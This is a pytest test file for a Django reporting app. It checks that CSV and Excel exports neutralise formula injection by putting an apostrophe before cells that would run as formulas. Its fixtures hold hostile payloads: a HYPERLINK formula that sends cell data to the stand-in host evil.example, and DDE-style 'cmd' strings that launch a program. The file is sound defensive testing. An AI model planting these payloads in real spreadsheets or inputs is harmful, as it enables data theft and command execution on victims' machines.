"""Formula injection: every CSV and Excel export puts an apostrophe before a cell that would
run as a spreadsheet formula, and leaves plain numbers alone. One rule, ``safe_cell``."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from authorities.models import Membership, Role
from authorities.toolkit.csv_safety import FORMULA_STARTS, PLAIN_NUMBER, restore, safe_cell
from indicators.models import AreaLevel, PeriodKind, Source
from indicators.returns import services
from tests.factories import (
    AuthorityFactory,
    NeighbourFactory,
    ObservationFactory,
    RegionFactory,
    annual,
    indicator,
)
from tests.indicators.returns.conftest import MONTH, make_user

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
HOSTILE_PLUS = "+cmd|' /C calc'!A0"
HOSTILE_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_MINUS = "-2+3+cmd|' /C calc'!A0"
ENGLAND = "E92000001"


# --- the rule ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        (HOSTILE, "'" + HOSTILE),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("-1e5", "-1e5"),
        ("-.5", "-.5"),
        ("-", "'-"),
        ("-3.5x", "'-3.5x"),
        ("-inf", "'-inf"),
        ("Wakefield", "Wakefield"),
        ("", ""),
        ("'=already", "'=already"),
        (3.5, 3.5),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@settings(max_examples=50, deadline=None)
@given(st.text())
def test_safe_cell_never_leaves_a_formula_and_restores(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell)
    assert safe_cell(cell) == cell  # once is enough
    assert restore(cell) == text or not text.startswith(FORMULA_STARTS)


@settings(max_examples=50, deadline=None)
@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_plain_numbers_as_text_stay_numbers(number):
    assert safe_cell(str(number)) == str(number)
    assert safe_cell(number) == number


def assert_no_formulas(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert PLAIN_NUMBER.fullmatch(cell), f"formula left in the export: {cell!r}"


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


# --- every export, with hostile names --------------------------------------------------------

pytestmark = pytest.mark.django_db


@pytest.fixture
def hostile():
    """An authority, its region and its neighbour with names that are formulas, and figures
    with negative changes (plain numbers that must stay numbers)."""
    region = RegionFactory(code="E12000003", name=HOSTILE_AT)
    authority = AuthorityFactory(name=HOSTILE, gss_code="E08000036", region=region)
    neighbour = AuthorityFactory(name=HOSTILE_PLUS, region=region)
    other = AuthorityFactory(name=HOSTILE_MINUS, region=region)
    NeighbourFactory(authority=authority, neighbour=neighbour, rank=1)
    NeighbourFactory(authority=authority, neighbour=other, rank=2)
    for year, value in [(2023, 30.0), (2024, 20.5), (2025, 12.25)]:
        annual(authority.gss_code, year, value)
        annual(neighbour.gss_code, year, value + 1)
        annual(other.gss_code, year, value + 2)
        annual(region.code, year, value - 1, level=AreaLevel.REGIONAL)
        annual(ENGLAND, year, value - 2, level=AreaLevel.NATIONAL)
    return authority


def test_trajectory_csv(client, hostile):
    response = client.get(
        reverse("reports:trajectory_csv", args=[hostile.gss_code]), {"indicator": "agency_sw_pct"}
    )
    rows = read_csv(response.content.decode())
    assert_no_formulas(rows)
    assert rows[0][2].startswith("'" + HOSTILE)  # the authority's own series
    assert "'" + HOSTILE_AT in rows[0]  # its region
    assert [row[2] for row in rows[1:]] == ["30", "20.5", "12.25"]


def test_compare_csv(client, hostile):
    params = {"group": f"neighbours:{hostile.gss_code}", "indicator": "agency_sw_pct"}
    rows = read_csv(client.get(reverse("reports:compare_csv"), params).content.decode())
    assert_no_formulas(rows)
    assert {"'" + HOSTILE, "'" + HOSTILE_PLUS, "'" + HOSTILE_MINUS} <= set(rows[0])


def test_league_csv(client, hostile):
    rows = read_csv(
        client.get(reverse("reports:league_csv"), {"indicator": "agency_sw_pct"}).content.decode()
    )
    assert_no_formulas(rows)
    names = {row[0] for row in rows[1:]}
    assert {"'" + HOSTILE, "'" + HOSTILE_PLUS, "'" + HOSTILE_MINUS} <= names
    assert any(cell.startswith("-") for row in rows[1:] for cell in row)  # changes: numbers


def test_observations_export(client, hostile):
    response = client.get(reverse("reports:observations_csv"), {"indicator": "agency_sw_pct"})
    rows = read_csv(response.content.decode())
    assert_no_formulas(rows)
    cells = {cell for row in rows for cell in row}
    assert {"'" + HOSTILE, "'" + HOSTILE_AT} <= cells


def test_return_templates(client, hostile):
    officer = make_user("hostile-officer", Role.DATA_OFFICER, hostile)
    services.save_return_values(
        authority=hostile,
        month=MONTH,
        user=officer,
        entries={
            "cla": {"value": "650", "internal_note": HOSTILE_MINUS, "explanation": "-12.5"},
            "contacts": {"value": "10", "published_note": "\t=cmd"},
        },
        version=0,
    )
    client.force_login(officer)
    args = [hostile.gss_code, MONTH]
    rows = read_csv(client.get(reverse("returns:template_csv", args=args)).content.decode())
    assert_no_formulas(rows)
    by_code = {row[2]: row for row in rows[1:]}
    assert by_code["cla"][7:10] == ["'" + HOSTILE_MINUS, "", "-12.5"]
    assert by_code["contacts"][8] == "'=cmd"  # stripped when saved, then made safe
    book = load_workbook(
        io.BytesIO(client.get(reverse("returns:template_xlsx", args=args)).content)
    )
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula in {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    assert_no_formulas([[cell.value]])
    cells = {r[2].value: r for r in book["Return"].iter_rows(min_row=2)}
    assert cells["cla"][7].value == "'" + HOSTILE_MINUS
    assert cells["cla"][4].value == 650 and cells["cla"][4].data_type == "n"
    title = book["Guidance"]["A1"].value
    assert title.startswith("Monthly return: ") and HOSTILE in title
    Membership.objects.filter(user=officer).delete()


def test_monthly_return_figures_in_the_export_keep_their_sign(client, hostile):
    ObservationFactory(
        indicator=indicator("agency_sw_pct"),
        area_code=hostile.gss_code,
        period_kind=PeriodKind.MONTH,
        period_start=datetime.date(2025, 1, 1),
        period_end=datetime.date(2025, 1, 31),
        period_label="Jan 2025",
        value=-3.5,
        source=Source.MONTHLY_RETURN,
        release="negative",
    )
    rows = read_csv(
        client.get(
            reverse("reports:observations_csv"), {"source": "monthly_return"}
        ).content.decode()
    )
    assert rows[1][-1] == "-3.5"
